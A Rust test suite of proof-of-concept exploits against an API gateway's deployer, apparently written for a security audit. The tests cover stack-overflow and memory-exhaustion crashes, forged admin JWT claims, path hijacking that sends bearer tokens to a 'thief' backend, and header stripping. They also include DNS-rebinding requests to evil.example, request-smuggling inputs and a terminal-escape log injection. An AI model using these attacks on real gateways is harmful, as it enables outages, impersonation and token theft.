//! Proofs of concept: each test asserts the ATTACK works (or prints what was seen).

use std::fmt::Write as _;

use base64::prelude::{BASE64_URL_SAFE_NO_PAD, Engine};
use http::Request;
use http_body_util::Full;
use serde_json::{Value, json};

use crate::{
    deployer::{Stage, admin_token, claims, named},
    gateway::{bearer, conf, fetch},
};

fn vm_rss(pid: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find(|line| line.starts_with("VmHWM"))
        .and_then(|line| line.split_whitespace().nth(1)?.parse().ok())
        .unwrap_or(0)
}

/// P1: one small conf with many switched-off credentials; one unauthenticated request ends the process.
#[tokio::test]
async fn p1_many_credentials_overflow_the_stack() {
    let n: usize = std::env::var("P1").map_or(6000, |n| n.parse().unwrap());
    let stage = Stage::with(|files, backend| {
        files.api(&conf(backend, "[{target: '/*', verb: GET, secured: false}]"))
    })
    .await;
    let mut conf = stage.conf("a") + "authentication:\n";
    for i in 0..n {
        let _ = writeln!(conf, "- {{authType: JWT, enabled: false, headerName: h{i}}}");
    }
    println!("conf of {} bytes", conf.len());
    let answer = stage.deploy(&conf).await;
    println!("deploy: {:?}", answer.status);
    let client = hyper_util::client::legacy::Client::builder(
        hyper_util::rt::TokioExecutor::new(),
    )
    .build_http();
    let request = Request::get(stage.gateway.url("/a/1/x"))
        .body(Full::new(bytes::Bytes::new()))
        .unwrap();
    println!("request: {:?}", client.request(request).await.map(|r| r.status()));
    let request = Request::get(stage.gateway.url("/orders/1.0.0/x"))
        .body(Full::new(bytes::Bytes::new()))
        .unwrap();
    println!(
        "other api (settings): {:?}",
        client.request(request).await.map(|r| r.status())
    );
    let status = stage.gateway.ended();
    println!("the process ended: {status:?}");
}

/// P1b: the headers of one API's policies are layers of every operation of every API.
#[tokio::test]
async fn p1b_headers_of_one_api_are_layers_of_all() {
    let n: usize = std::env::var("P1").map_or(600, |n| n.parse().unwrap());
    let stage = Stage::with(|files, backend| {
        files.api(&conf(backend, "[{target: '/*', verb: GET, secured: false}]"))
    })
    .await;
    let mut ops = String::from("\n");
    for i in 0..n {
        let _ = writeln!(
            ops,
            "- {{target: /t{i}, verb: GET, operationPolicies: {{request: [{{policyName: BackendJwt, parameters: {{header: h{i}}}}}]}}}}"
        );
    }
    let conf = named(&stage.backend, "a", &ops);
    println!("conf of {} bytes", conf.len());
    let start = std::time::Instant::now();
    let answer = stage.deploy(&conf).await;
    println!("deploy: {:?} after {:?}", answer.status, start.elapsed());
    let client = hyper_util::client::legacy::Client::builder(
        hyper_util::rt::TokioExecutor::new(),
    )
    .build_http();
    let request = Request::get(stage.gateway.url("/orders/1.0.0/x"))
        .body(Full::new(bytes::Bytes::new()))
        .unwrap();
    println!(
        "other api (settings): {:?}",
        client.request(request).await.map(|r| r.status())
    );
}

/// P2: a deployed policy's header is taken off all APIs, also when it is gone again.
#[tokio::test]
async fn p2_a_deployed_header_takes_security_headers_off_other_apis() {
    let stage = Stage::with(|files, backend| {
        files.api(&crate::gateway::minting(&conf(
            backend,
            "[{target: '/*', verb: GET}]",
        )))
    })
    .await;
    let token = bearer(&stage.idp.token(&json!({})));
    let ask = async || {
        let headers = [
            ("Authorization", token.as_str()),
            ("Answer-With", "Cache-Control: private, no-store"),
        ];
        let answer = stage.gateway.get("/orders/1.0.0/x", &headers).await;
        assert_eq!(answer.status, 200);
        answer.headers.get("cache-control").cloned()
    };
    assert!(ask().await.is_some());
    let evil = named(&stage.backend, "evil", "[{target: '/*', verb: GET}]")
        + "apiPolicies: {request: [{policyName: BackendJwt, parameters: {header: Cache-Control}}]}\n";
    let id = stage.deployed(&evil).await;
    println!("with evil: cache-control of the settings' API = {:?}", ask().await);
    assert_eq!(ask().await, None);
    assert_eq!(stage.undeploy(&id).await.status, 202);
    println!("evil undeployed: cache-control = {:?}", ask().await);
    assert_eq!(ask().await, None, "still gone after undeploy");
}

/// P3: claims of WSO2's dialect, forged by the author of an API, for a caller without any token.
#[tokio::test]
async fn p3_another_dialect_lets_an_author_forge_a_user() {
    let stage = Stage::with(|files, backend| {
        files.api(&crate::gateway::minting(&conf(
            backend,
            "[{target: '/*', verb: GET}]",
        )))
    })
    .await;
    let evil = named(
        &stage.backend,
        "evil",
        "[{target: '/*', verb: GET, secured: false}]",
    ) + "apiPolicies: {request: [{policyName: BackendJwt, parameters: {claimDialect: x, minimalAssertion: true, customClaims: [\
         {claim: 'http://wso2.org/claims/enduser', value: admin@carbon.super},\
         {claim: 'http://wso2.org/claims/usertype', value: Application_User},\
         {claim: 'http://wso2.org/claims/apiname', value: orders},\
         {claim: 'http://wso2.org/claims/subscriber', value: admin},\
         {claim: 'http://wso2.org/claims/applicationtier', value: Unlimited},\
         {claim: username, value: admin}, {claim: scope, value: 'orders:admin'}]}}]}\n";
    stage.deployed(&evil).await;
    let answer = stage.gateway.get("/evil/1/x", &[]).await;
    let claims = claims(&answer);
    println!("{claims:#}");
    assert_eq!(claims["http://wso2.org/claims/enduser"], "admin@carbon.super");
    assert_eq!(claims["iss"], "wso2.org/products/am");
}

/// P4: an API of the settings changes only there, says the deployer; but its paths can be taken.
#[tokio::test]
async fn p4_a_deployed_api_takes_paths_and_tokens_of_one_of_the_settings() {
    let stage = Stage::with(|files, backend| {
        files.api(&crate::gateway::minting(&conf(
            backend,
            "[{target: '/*', verb: GET, scopes: ['orders:admin']}]",
        )))
    })
    .await;
    let token = stage.idp.token(&json!({"scope": "orders:admin"}));
    let thief = crate::backend::Backend::start().await;
    let evil = format!(
        "name: evil\nbasePath: /orders/1.0.0\nversion: admin\ntype: REST\n\
         endpointConfigurations: {{production: {{endpoint: 'http://{}/base'}}}}\n\
         operations: [{{target: '/*', verb: GET}}]\n\
         authentication: [{{authType: OAuth2, sendTokenToUpstream: true}}]\n",
        thief.address
    );
    stage.deployed(&evil).await;
    let answer = stage
        .gateway
        .get("/orders/1.0.0/admin/x", &[("Authorization", &bearer(&token))])
        .await;
    let seen = answer.seen("authorization");
    println!("the thief saw {} bytes", seen.as_ref().unwrap().len());
    assert_eq!(seen, Some(bearer(&token)));
    // And without a token, where the API of the settings asks for one with a scope.
    let open = evil.replace(
        "authentication: [{authType: OAuth2, sendTokenToUpstream: true}]",
        "authentication: [{authType: OAuth2, enabled: false}]",
    );
    stage.deployed(&open).await;
    assert_eq!(stage.gateway.get("/orders/1.0.0/admin/x", &[]).await.status, 200);
    assert_eq!(stage.gateway.get("/orders/1.0.0/other", &[]).await.status, 401);
}

/// P5: an endpoint that is the gateway itself: one request never ends.
#[tokio::test]
async fn p5_an_endpoint_that_is_the_gateway() {
    let stage = Stage::empty().await;
    let evil = stage.conf("a").replace(
        &format!("http://{}/base", stage.backend.address),
        &format!("http://{}/a/1", stage.gateway.address),
    );
    stage.deployed(&evil).await;
    let fds = || {
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "p=$(ss -ltnpH 'sport = :{}' | sed 's/.*pid=\\([0-9]*\\).*/\\1/'); ls /proc/$p/fd | wc -l",
                stage.gateway.address.port()
            ))
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    println!("file descriptors before: {}", fds());
    let url = stage.gateway.url("/a/1/x");
    let one = tokio::spawn(async move {
        fetch(Request::get(url).body(Full::default()).unwrap()).await
    });
    for _ in 0..5 {
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
        println!("file descriptors: {}", fds());
    }
    println!("finished: {}", one.is_finished());
    // The admin address as an endpoint.
    let admin = stage.gateway.admin_url("");
    let bridge = stage
        .conf("b")
        .replace(&format!("http://{}/base", stage.backend.address), &admin);
    let answer = stage.deploy(&bridge).await;
    println!("an endpoint at the admin address: {:?}", answer.status);
}

/// P7: a hyphen moves between name and version: another API is replaced.
#[tokio::test]
async fn p7_two_apis_with_one_id() {
    let stage = Stage::empty().await;
    let one = stage.conf("a").replace("name: a", "name: a-1").replace("version: '1'", "version: '2'");
    let two = stage
        .conf("b")
        .replace("name: b", "name: a")
        .replace("version: '1'", "version: '1-2'");
    let first = stage.deployed(&one).await;
    let second = stage.deployed(&two).await;
    assert_eq!(first, second);
    let list = stage.list(["name", "version"]).await;
    println!("{list:?}");
    assert_eq!(list, [[json!("a"), json!("1-2")]]);
}

/// P10: any issuer of the settings makes tokens that deploy.
#[tokio::test]
async fn p10_any_issuer_deploys() {
    let partner = crate::idp::Idp::new();
    let stage = Stage::with(|files, _| {
        files.write("partner.json", &partner.jwks());
        files.issuers(
            "issuers:\n- {issuer: 'https://idp.example.com', audiences: [test-audience], jwks: {file: jwks.json}}\n\
             - {issuer: 'https://partner.example.com', audiences: [only-partner-things], jwks: {file: partner.json}}\n",
        )
    })
    .await;
    let token = partner.token(&json!({
        "iss": "https://partner.example.com", "aud": "gateway-admin", "scope": "apk:api_create"
    }));
    let answer = crate::deployer::call(
        &stage.gateway,
        &token,
        ("GET", "/api/deployer/1.2.0/apis"),
        "",
        bytes::Bytes::new(),
    )
    .await;
    println!("partner: {:?}", answer.status);
    assert_eq!(answer.status, 200);
}

/// P11: what the gateway says when it starts.
#[tokio::test]
async fn p11_lines_in_the_announcement() {
    let mut stage = Stage::empty().await;
    let conf = stage.conf("a").replace(
        "name: a",
        "name: \"x\\n\\e[2K\\rlistening on http://6.6.6.6:1\"",
    );
    stage.deployed(&conf).await;
    stage.restart();
    println!("{:?}", stage.gateway.announcement);
    assert!(stage.gateway.announcement.contains("\n\u{1b}[2K\rlistening on"));
}

/// P12: what a page of any site reads by rebinding its name.
#[tokio::test]
async fn p12_rebinding() {
    let stage = Stage::empty().await;
    for path in ["/issuers", "/applications", "/readyz"] {
        let answer = stage
            .gateway
            .raw_admin(&format!(
                "GET {path} HTTP/1.1\r\nHost: evil.example:9443\r\nOrigin: http://evil.example:9443\r\nConnection: close\r\n\r\n"
            ))
            .await;
        println!("{answer}");
        assert!(answer.starts_with("HTTP/1.1 200"));
    }
}

/// P13: the header of a policy that is gone passes where no backend JWT is minted.
#[tokio::test]
async fn p13_a_header_of_the_past() {
    let stage = Stage::empty().await;
    stage.deployed(&stage.conf("b")).await;
    let a = named(&stage.backend, "a", "[{target: '/*', verb: GET}]")
        + "apiPolicies: {request: [{policyName: BackendJwt, parameters: {header: X-Old}}]}\n";
    let id = stage.deployed(&a).await;
    let ask = async || {
        stage
            .gateway
            .get("/b/1/x", &[("X-Old", "forged")])
            .await
            .seen("x-old")
    };
    assert_eq!(ask().await, None);
    stage.undeploy(&id).await;
    println!("after undeploy: {:?}", ask().await);
    assert_eq!(ask().await.as_deref(), Some("forged"));
}

/// P13b: a header policy that is shown in the conf and not applied.
#[tokio::test]
async fn p13b_a_past_header_undoes_a_header_policy() {
    let stage = Stage::empty().await;
    let a = named(&stage.backend, "a", "[{target: '/*', verb: GET}]")
        + "apiPolicies: {request: [{policyName: BackendJwt, parameters: {header: X-Tenant}}]}\n";
    let id = stage.deployed(&a).await;
    stage.undeploy(&id).await;
    let b = named(&stage.backend, "b", "[{target: '/*', verb: GET}]")
        + "apiPolicies: {request: [{policyName: SetHeader, parameters: {headerName: X-Tenant, headerValue: t1}}, {policyName: BackendJwt, parameters: {}}]}\n";
    stage.deployed(&b).await;
    let token = bearer(&stage.idp.token(&json!({})));
    let answer = stage.gateway.get("/b/1/x", &[("Authorization", &token)]).await;
    println!("x-tenant: {:?}", answer.seen("x-tenant"));
    assert_eq!(answer.seen("x-tenant"), None);
}

/// P6: memory of a conf.
#[tokio::test]
async fn p6_memory_is_the_product() {
    let p: usize = std::env::var("P6P").map_or(1000, |n| n.parse().unwrap());
    let o: usize = std::env::var("P6O").map_or(1000, |n| n.parse().unwrap());
    let stage = Stage::empty().await;
    let mut conf = stage.conf("a").replace(
        "operations: [{target: '/*', verb: GET, secured: false}]\n",
        "",
    );
    conf += "apiPolicies:\n  request:\n";
    for i in 0..p {
        let _ = writeln!(
            conf,
            "  - {{policyName: SetHeader, parameters: {{headerName: h{i}, headerValue: x}}}}"
        );
    }
    conf += "operations:\n";
    for i in 0..o {
        let _ = writeln!(conf, "- {{target: /t{i}, verb: GET}}");
    }
    println!("conf of {} bytes", conf.len());
    let start = std::time::Instant::now();
    let url = stage.gateway.admin_url(crate::deployer::DEPLOY);
    let request = Request::post(url)
        .header("authorization", bearer(&admin_token(&stage.idp)))
        .header("content-type", crate::deployer::FORM)
        .body(Full::new(crate::deployer::form(&[(
            "apkConfiguration",
            conf.as_bytes(),
        )])))
        .unwrap();
    let client = hyper_util::client::legacy::Client::builder(
        hyper_util::rt::TokioExecutor::new(),
    )
    .build_http();
    let answer = client.request(request).await.map(|r| r.status());
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ss -ltnpH 'sport = :{}' | sed 's/.*pid=\\([0-9]*\\).*/\\1/'",
            stage.gateway.address.port()
        ))
        .output()
        .unwrap();
    let pid = String::from_utf8(out.stdout).unwrap();
    println!(
        "deploy: {answer:?} after {:?}, peak {} KiB",
        start.elapsed(),
        vm_rss(pid.trim())
    );
}

/// Tokens of the gateway's own making, sent back to it.
#[tokio::test]
async fn t1_a_minimal_assertion_is_no_access_token() {
    let stage = Stage::empty().await;
    let a = named(&stage.backend, "a", "[{target: '/open', verb: GET, secured: false}, {target: '/closed', verb: GET}]")
        + "apiPolicies: {request: [{policyName: BackendJwt, parameters: {minimalAssertion: true, issuer: 'https://idp.example.com', audiences: [test-audience, gateway-admin], customClaims: [{claim: scope, value: 'apk:api_create'}]}}]}\n";
    let answer = stage.deploy(&a).await;
    println!("an author takes the provider's name: {:?}", answer.status);
    let answer = stage.gateway.get("/a/1/open", &[]).await;
    let jwt = answer.seen("x-jwt-assertion").unwrap();
    println!("{:#}", crate::idp::part(&jwt, 1));
    let closed = stage.gateway.get("/a/1/closed", &[("Authorization", &bearer(&jwt))]).await;
    println!("as a token: {:?}", closed.status);
    assert_eq!(closed.status, 401);
    let good = bearer(&stage.idp.token(&json!({})));
    let closed = stage.gateway.get("/a/1/closed", &[("Authorization", &good)]).await;
    println!("a good token at that API: {:?}", closed.status);
    let _ = BASE64_URL_SAFE_NO_PAD.encode("x");
    let _: Value = json!(null);
}

/// P1c: two deployed confs; then any request to any API, without a token, ends the process, and again
/// after a restart.
#[tokio::test]
async fn p1c_headers_of_two_apis_end_all_apis() {
    let n: usize = std::env::var("P1").map_or(500, |n| n.parse().unwrap());
    let mut stage = Stage::with(|files, backend| {
        files.api(&conf(backend, "[{target: '/*', verb: GET, secured: false}]"))
    })
    .await;
    for name in ["a", "b"] {
        let mut ops = String::from("\n");
        for i in 0..n {
            let _ = writeln!(
                ops,
                "- {{target: /t{i}, verb: GET, operationPolicies: {{request: [{{policyName: BackendJwt, parameters: {{header: {name}{i}}}}}]}}}}"
            );
        }
        let conf = named(&stage.backend, name, &ops);
        println!("{} bytes: {:?}", conf.len(), stage.deploy(&conf).await.status);
    }
    let client = hyper_util::client::legacy::Client::builder(
        hyper_util::rt::TokioExecutor::new(),
    )
    .build_http();
    for _ in 0..2 {
        let request = Request::get(stage.gateway.url("/orders/1.0.0/x"))
            .body(Full::new(bytes::Bytes::new()))
            .unwrap();
        println!(
            "API of the settings, no token: {:?}",
            client.request(request).await.map(|r| r.status())
        );
        stage.restart();
    }
}

/// P2b: the header that tells where a caller comes from.
#[tokio::test]
async fn p2b_a_deployed_header_takes_forwarded_for_off_other_apis() {
    let stage = Stage::with(|files, backend| {
        files.api(&crate::gateway::minting(&conf(
            backend,
            "[{target: '/*', verb: GET}]",
        )))
    })
    .await;
    let token = bearer(&stage.idp.token(&json!({})));
    let ask = async || {
        let answer = stage
            .gateway
            .get("/orders/1.0.0/x", &[("Authorization", token.as_str())])
            .await;
        answer.seen("x-forwarded-for")
    };
    println!("before: {:?}", ask().await);
    let evil = named(&stage.backend, "evil", "[{target: '/*', verb: GET}]")
        + "apiPolicies: {request: [{policyName: BackendJwt, parameters: {header: X-Forwarded-For}}]}\n";
    stage.deployed(&evil).await;
    println!("after: {:?}", ask().await);
    assert_eq!(ask().await, None);
}

/// P16: a conf that is refused after minutes.
#[tokio::test]
async fn p16_a_refusal_that_takes_long() {
    let (p, o) = (1500, 3000);
    let stage = Stage::empty().await;
    let mut conf = stage.conf("a").replace(
        "operations: [{target: '/*', verb: GET, secured: false}]\n",
        "",
    );
    conf += "apiPolicies:\n  request:\n";
    for i in 0..p {
        let _ = writeln!(
            conf,
            "  - {{policyName: SetHeader, parameters: {{headerName: h{i}, headerValue: x}}}}"
        );
    }
    conf += "operations:\n";
    for i in 0..o {
        let verb = if i >= o - 40 { "get" } else { "GET" };
        let _ = writeln!(conf, "- {{target: /t{i}, verb: {verb}}}");
    }
    let start = std::time::Instant::now();
    let answer = stage.deploy(&conf).await;
    println!("{} bytes: {:?} after {:?}", conf.len(), answer.status, start.elapsed());
}

/// P17: a secret that is written as a number is in the log.
#[tokio::test]
async fn p17_a_secret_in_the_log() {
    let mut stage = Stage::empty().await;
    stage.gateway = stage.files.start_logging("log");
    let conf = stage.conf("a")
        + "apiPolicies: {request: [{policyName: SetHeader, parameters: {headerName: X-Api-Key, headerValue: 48151623421337}}]}\n";
    let answer = stage.deploy(&conf).await;
    println!("{}", answer.json());
    let log = std::fs::read_to_string(stage.files.path("log")).unwrap();
    println!("in the log: {}", log.contains("48151623421337"));
    assert!(log.contains("48151623421337"));
}

/// P15: many deploys at once, with a token.
#[tokio::test]
async fn p15_many_deploys_at_once() {
    let stage = Stage::empty().await;
    let token = bearer(&stage.token);
    let part = "--between\r\nContent-Disposition: form-data; name=\"definitionFile\"\r\n\r\n";
    let mut streams = Vec::new();
    let address = stage.gateway.admin_url("").replace("http://", "");
    for _ in 0..200 {
        use tokio::io::AsyncWriteExt;
        let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
        let head = format!(
            "POST /api/deployer/apis/deploy HTTP/1.1\r\nHost: x\r\nAuthorization: {token}\r\nContent-Type: multipart/form-data; boundary=between\r\nContent-Length: 9000000\r\n\r\n{part}"
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        let body = vec![b'x'; 8_000_000];
        stream.write_all(&body).await.unwrap();
        streams.push(stream);
    }
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ss -ltnpH 'sport = :{}' | sed 's/.*pid=\\([0-9]*\\).*/\\1/'",
            stage.gateway.address.port()
        ))
        .output()
        .unwrap();
    let pid = String::from_utf8(out.stdout).unwrap();
    tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    println!("200 unfinished deploys: peak {} KiB", vm_rss(pid.trim()));
}

/// P18: odd requests, over sockets.
#[tokio::test]
async fn p18_odd_requests() {
    let stage = Stage::empty().await;
    let token = bearer(&stage.token);
    let good = {
        let conf = stage.conf("a");
        format!("--between\r\nContent-Disposition: form-data; name=\"apkConfiguration\"\r\n\r\n{conf}\r\n--between--\r\n")
    };
    let head = "POST /api/deployer/apis/deploy HTTP/1.1\r\nHost: x\r\nConnection: close\r\n";
    let auth = format!("Authorization: {token}\r\n");
    let ty = "Content-Type: multipart/form-data; boundary=between\r\n";
    let len = good.len();
    for (what, request) in [
        ("no token", format!("{head}{ty}Content-Length: {len}\r\n\r\n{good}")),
        ("two tokens", format!("{head}{auth}{auth}{ty}Content-Length: {len}\r\n\r\n{good}")),
        ("token in the query", format!("{}{ty}Content-Length: {len}\r\n\r\n{good}", head.replace("deploy HTTP", &format!("deploy?access_token={} HTTP", stage.token)))),
        ("two lengths", format!("{head}{auth}{ty}Content-Length: {len}\r\nContent-Length: 3\r\n\r\n{good}")),
        ("length and chunked", format!("{head}{auth}{ty}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n{len:x}\r\n{good}\r\n0\r\n\r\n")),
        ("chunked twice", format!("{head}{auth}{ty}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n{len:x}\r\n{good}\r\n0\r\n\r\n")),
        ("te: gzip", format!("{head}{auth}{ty}Transfer-Encoding: gzip, chunked\r\n\r\n{len:x}\r\n{good}\r\n0\r\n\r\n")),
        ("bad chunk", format!("{head}{auth}{ty}Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{good}\r\n0\r\n\r\n")),
        ("two types", format!("{head}{auth}{ty}Content-Type: application/json\r\nContent-Length: {len}\r\n\r\n{good}")),
        ("empty boundary", format!("{head}{auth}Content-Type: multipart/form-data; boundary=\"\"\r\nContent-Length: {len}\r\n\r\n{good}")),
        ("boundary of line breaks", format!("{head}{auth}Content-Type: multipart/form-data; boundary=\"--\"\r\nContent-Length: {len}\r\n\r\n{good}")),
        ("dots in the path", format!("{}{auth}{ty}Content-Length: {len}\r\n\r\n{good}", head.replace("/apis/deploy", "/../deployer/apis/deploy"))),
        ("length of 2^64", format!("{head}{auth}{ty}Content-Length: 18446744073709551615\r\n\r\n{good}")),
        ("part header of 1 MB", format!("{head}{auth}{ty}Content-Length: {}\r\n\r\n{}", len + 1_000_000 + 5, good.replacen("Content-Disp", &format!("X: {}\r\nContent-Disp", "x".repeat(1_000_000)), 1))),
        ("1000 part headers", format!("{head}{auth}{ty}Content-Length: {}\r\n\r\n{}", len + 6000, good.replacen("Content-Disp", &format!("{}Content-Disp", "X: y\r\n".repeat(1000)), 1))),
    ] {
        let answer = stage.gateway.raw_admin(&request).await;
        let first = answer.lines().next().unwrap_or("closed").to_owned();
        let last = answer.lines().last().unwrap_or_default();
        println!("{what}: {first} {last:.160}");
    }
    println!("{:?}", stage.list(["name"]).await);
    println!("{:?}", stage.gateway.ask("GET", "/healthz").await.status);
}

/// P19: names that have been headers once cost every request, until a restart.
#[tokio::test]
async fn p19_headers_that_only_grow() {
    let stage = Stage::with(|files, backend| {
        files.api(&crate::gateway::minting(&conf(
            backend,
            "[{target: '/*', verb: GET}]",
        )))
    })
    .await;
    let token = bearer(&stage.idp.token(&json!({})));
    let ask = async || {
        let mut times = Vec::new();
        for _ in 0..100 {
            let start = std::time::Instant::now();
            let answer = stage
                .gateway
                .get("/orders/1.0.0/x", &[("Authorization", token.as_str())])
                .await;
            assert_eq!(answer.status, 200);
            times.push(start.elapsed());
        }
        times.sort();
        times[50]
    };
    println!("median before: {:?}", ask().await);
    for round in 0..4 {
        let mut ops = String::from("\n");
        for i in 0..1800 {
            let _ = writeln!(
                ops,
                "- {{target: /t{i}, verb: GET, operationPolicies: {{request: [{{policyName: BackendJwt, parameters: {{header: r{round}x{i}}}}}]}}}}"
            );
        }
        let id = stage.deployed(&named(&stage.backend, "a", &ops)).await;
        assert_eq!(stage.undeploy(&id).await.status, 202);
        println!("median with no other API, after {} names: {:?}", (round + 1) * 1800, ask().await);
    }
}
